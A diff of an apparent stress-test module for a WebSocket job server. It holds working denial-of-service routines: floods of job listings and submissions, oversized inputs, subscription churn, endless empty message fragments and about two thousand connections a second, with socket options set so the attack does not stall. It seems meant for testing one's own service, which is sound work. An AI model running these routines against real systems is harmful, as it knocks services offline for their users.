@@ -9,19 +9,24 @@ import itertools
 import json
 import os
 import socket
+import struct
 import sys
 import threading
 import time
-from collections.abc import Callable, Iterator
-from contextlib import suppress
+from collections import deque
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import contextmanager, suppress
+from functools import partial
+from typing import TypeAlias
 from urllib.parse import urlsplit
 
-from websockets.exceptions import ConnectionClosed
 from websockets.sync.client import ClientConnection, connect
 
 ALICE = "alice-token"
-BIG = json.dumps([[] for _ in range(24_000)])
-"""A JSON text whose objects take far more room than its bytes, just within `json_values`."""
+BIG: list[object] = [[] for _ in range(24_000)]
+"""A value whose objects take far more room than its bytes, just within `json_values`."""
+FINISHED_JOBS = 100
+"""Jobs of each listing."""
 BEGIN = bytes([0x1, 0x80, 0, 0, 0, 0])
 """The first fragment of a text, which is empty."""
 GO_ON = bytes([0x0, 0x80, 0, 0, 0, 0]) * 10_000
@@ -30,78 +35,70 @@ GO_ON = bytes([0x0, 0x80, 0, 0, 0, 0]) * 10_000
 
 def attack_silent_reader(url: str) -> None:
     """Ask for listings with wide leases in many sessions, and read nothing."""
-    lease = {"tool.call": [f"{n:03}{'x' * 400}" for n in range(150)]}
     with _session(url) as first:
         for _ in range(60):
-            _say(first, "job.submit", {"agent": "sleeper", "input": 60, "lease_request": lease})
+            first.send(_text(_SLEEPER))
             first.recv()
     for _ in range(8):
-        threading.Thread(target=_flood, args=(url, _listings), daemon=True).start()
+        _start(_flood, url, [("session.list_jobs", {"page_size": 100})])
 
 
 def attack_listings(url: str) -> None:
-    """Have many sessions ask for listings, and read them."""
+    """Have many sessions ask for listings of finished jobs, and read them."""
+    with _session(url) as first:
+        for _ in range(FINISHED_JOBS):
+            first.send(_text(("job.submit", {"agent": "echo", "input": 1})))
+            while '"job.result"' not in str(first.recv()):
+                pass
     for _ in range(20):
-        threading.Thread(target=_ask_and_read, args=(url, _listings), daemon=True).start()
+        _start(_hammer, url, [("session.list_jobs", {"page_size": FINISHED_JOBS})])
 
 
 def attack_one_key(url: str) -> None:
     """Submit under one key, as fast as it goes, in many sessions."""
     submit = {"agent": "echo", "input": 1, "idempotency_key": f"k{os.getpid()}"}
     for _ in range(8):
-        threading.Thread(
-            target=_ask_and_read,
-            args=(url, lambda: itertools.repeat(("job.submit", submit))),
-            daemon=True,
-        ).start()
+        _start(_hammer, url, [("job.submit", submit)])
 
 
 def attack_big_inputs(url: str) -> None:
     """Submit inputs of small objects, one after the other."""
     for _ in range(2):
-        threading.Thread(target=_big_inputs, args=(url,), daemon=True).start()
+        _start(_hammer, url, [("job.submit", {"agent": "echo", "input": BIG})])
 
 
 def attack_subscriptions(url: str) -> None:
-    """Subscribe and unsubscribe in many sessions, as fast as it goes."""
+    """Subscribe to a job with a wide lease, and unsubscribe, in many sessions."""
     with _session(url) as first:
-        _say(first, "job.submit", {"agent": "sleeper", "input": 60})
+        first.send(_text(_SLEEPER))
         job_id = json.loads(first.recv())["payload"]["job_id"]
     both = [("job.subscribe", {"job_id": job_id}), ("job.unsubscribe", {"job_id": job_id})]
     for _ in range(4):
-        threading.Thread(
-            target=_ask_and_read, args=(url, lambda: itertools.cycle(both)), daemon=True
-        ).start()
+        _start(_hammer, url, both)
 
 
 def attack_echoes(url: str) -> None:
     """Have short jobs done in many sessions, as fast as they go."""
     submit = {"agent": "echo", "input": "x" * 1_000}
     for _ in range(16):
-        threading.Thread(
-            target=_ask_and_read,
-            args=(url, lambda: itertools.repeat(("job.submit", submit))),
-            daemon=True,
-        ).start()
+        _start(_hammer, url, [("job.submit", submit)])
 
 
 def attack_fragments(url: str) -> None:
     """Send empty fragments of a message that never ends, without a session."""
-    stream = _upgraded(url)
-    stream.sendall(BEGIN)
-    threading.Thread(target=_send_for_ever, args=(url, stream, GO_ON), daemon=True).start()
+    _start(_send_fragments, partial(_upgraded, url))
 
 
 def attack_fragments_in_sessions(url: str) -> None:
     """Send empty fragments in many sessions."""
     for _ in range(20):
-        threading.Thread(target=_fragments, args=(url,), daemon=True).start()
+        _start(_send_fragments, partial(_in_session, url))
 
 
 def attack_connects(url: str) -> None:
-    """Connect from one address, again and again, and say nothing."""
+    """Connect from one address, two thousand times a second, and say nothing."""
     for _ in range(2):
-        threading.Thread(target=_connect_for_ever, args=(url,), daemon=True).start()
+        _start(_connect_for_ever, url)
 
 
 ATTACKS: dict[str, Callable[[str], None]] = {
@@ -109,59 +106,56 @@ ATTACKS: dict[str, Callable[[str], None]] = {
     for name, function in list(globals().items())
     if name.startswith("attack_")
 }
-Requests = Iterator[tuple[str, dict[str, object]]]
-
-
-def _listings() -> Requests:
-    while True:
-        yield "session.list_jobs", {"page_size": 100, "filter": {"agent": "echo@1.0.0"}}
-
-
-def _session(url: str) -> ClientConnection:
-    connection = connect(url, compression=None, max_size=None, ping_interval=None)
-    hello = {
+_Request: TypeAlias = tuple[str, object]
+"""The type of a message, and its payload."""
+_SLEEPER: _Request = (
+    "job.submit",
+    {
+        "agent": "sleeper",
+        "input": {"seconds": 3_600},
+        "lease_request": {"tool.call": [f"{n:03}{'x' * 400}" for n in range(150)]},
+    },
+)
+"""A job whose acceptance, subscriptions and listings are large."""
+_HELLO: _Request = (
+    "session.hello",
+    {
         "client": {"name": "alice", "version": "1"},
         "auth": {"scheme": "bearer", "token": ALICE},
         "capabilities": {"encodings": ["json"], "features": ["list_jobs", "subscribe"]},
-    }
-    _say(connection, "session.hello", hello)
-    connection.recv()
-    return connection
+    },
+)
+_BATCH_BYTES = 256 * 1024
+"""What is sent at once, so that the attacker needs little time for much."""
 
 
-def _say(connection: ClientConnection, kind: str, payload: dict[str, object]) -> None:
-    frame = {"arcp": "1.1", "id": f"c{time.monotonic_ns()}", "type": kind, "payload": payload}
-    connection.send(json.dumps(frame))
+def _start(act: Callable[..., None], *args: object) -> None:
+    threading.Thread(target=act, args=args, daemon=True).start()
 
 
-def _flood(url: str, requests: Callable[[], Requests]) -> None:
-    """Send requests on a bare socket, and read nothing."""
-    with suppress(ConnectionClosed, OSError):
-        connection = _session(url)
-        for kind, payload in requests():
-            _say(connection, kind, payload)
+@contextmanager
+def _session(url: str) -> Iterator[ClientConnection]:
+    with connect(url, compression=None, max_size=None, ping_interval=None) as connection:
+        connection.send(_text(_HELLO))
+        connection.recv()
+        yield connection
 
 
-def _ask_and_read(url: str, requests: Callable[[], Requests]) -> None:
-    while True:
-        with suppress(ConnectionClosed, OSError), _session(url) as connection:
-            threading.Thread(target=_drain, args=(connection,), daemon=True).start()
-            for kind, payload in requests():
-                _say(connection, kind, payload)
+def _text(request: _Request) -> str:
+    kind, payload = request
+    return json.dumps({"arcp": "1.1", "id": "a1", "type": kind, "payload": payload})
 
 
-def _drain(connection: ClientConnection) -> None:
-    with suppress(ConnectionClosed, OSError):
-        while True:
-            connection.recv()
-
-
-def _big_inputs(url: str) -> None:
-    with suppress(ConnectionClosed, OSError), _session(url) as connection:
-        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
-        while True:
-            frame = f'"type":"job.submit","payload":{{"agent":"echo","input":{BIG}}}'
-            connection.send(f'{{"arcp":"1.1","id":"b{time.monotonic_ns()}",{frame}}}')
+def _frame(request: _Request) -> bytes:
+    """Return a request as a client's frame, with a mask that changes nothing."""
+    data = _text(request).encode()
+    if len(data) < 126:
+        length = bytes([0x80 | len(data)])
+    elif len(data) < 1 << 16:
+        length = b"\xfe" + len(data).to_bytes(2, "big")
+    else:
+        length = b"\xff" + len(data).to_bytes(8, "big")
+    return b"\x81" + length + bytes(4) + data
 
 
 def _upgraded(url: str) -> socket.socket:
@@ -176,32 +170,69 @@ def _upgraded(url: str) -> socket.socket:
     return stream
 
 
-def _send_for_ever(url: str, stream: socket.socket, data: bytes) -> None:
+def _in_session(url: str) -> socket.socket:
+    stream = _upgraded(url)
+    stream.sendall(_frame(_HELLO))
+    return stream
+
+
+def _flood(url: str, requests: Sequence[_Request]) -> None:
+    """Send requests in a session, over and over again, and read nothing."""
+    _send_for_ever(partial(_in_session, url), _batch(requests))
+
+
+def _hammer(url: str, requests: Sequence[_Request]) -> None:
+    """Send requests in a session, over and over again, and read what comes."""
+
+    def opened() -> socket.socket:
+        stream = _in_session(url)
+        _start(_drain, stream)
+        return stream
+
+    _send_for_ever(opened, _batch(requests))
+
+
+def _batch(requests: Sequence[_Request]) -> bytes:
+    once = b"".join(map(_frame, requests))
+    return once * (_BATCH_BYTES // len(once) + 1)
+
+
+def _drain(stream: socket.socket) -> None:
+    with suppress(OSError):
+        while stream.recv(_BATCH_BYTES):
+            pass
+
+
+def _send_fragments(connect_: Callable[[], socket.socket]) -> None:
+    def begun() -> socket.socket:
+        stream = connect_()
+        stream.sendall(BEGIN)
+        return stream
+
+    _send_for_ever(begun, GO_ON)
+
+
+def _send_for_ever(connect_: Callable[[], socket.socket], data: bytes) -> None:
+    """Send the same again and again, on another connection when one has ended."""
     while True:
-        with suppress(OSError):
+        with suppress(OSError), connect_() as stream:
             while True:
                 stream.sendall(data)
-        with suppress(OSError):
-            stream = _upgraded(url)
-            stream.sendall(BEGIN)
-
-
-def _fragments(url: str) -> None:
-    while True:
-        with suppress(ConnectionClosed, OSError), _session(url) as connection:
-            connection.socket.sendall(BEGIN)
-            while True:
-                connection.socket.sendall(GO_ON)
 
 
 def _connect_for_ever(url: str) -> None:
     parts = urlsplit(url)
-    held: list[socket.socket] = []
-    while True:
+    held: deque[socket.socket] = deque()
+    begin = time.monotonic()
+    for number in itertools.count():
+        time.sleep(max(0.0, begin + number / 1_000 - time.monotonic()))
         with suppress(OSError):
-            held.append(socket.create_connection((parts.hostname or "", parts.port or 0)))
+            stream = socket.create_connection((parts.hostname or "", parts.port or 0))
+            # Else the system would run out of ports, and the attack would stop for a minute.
+            stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            held.append(stream)
         if len(held) > 300:
-            held.pop(0).close()
+            held.popleft().close()
 
 
 def main() -> None:
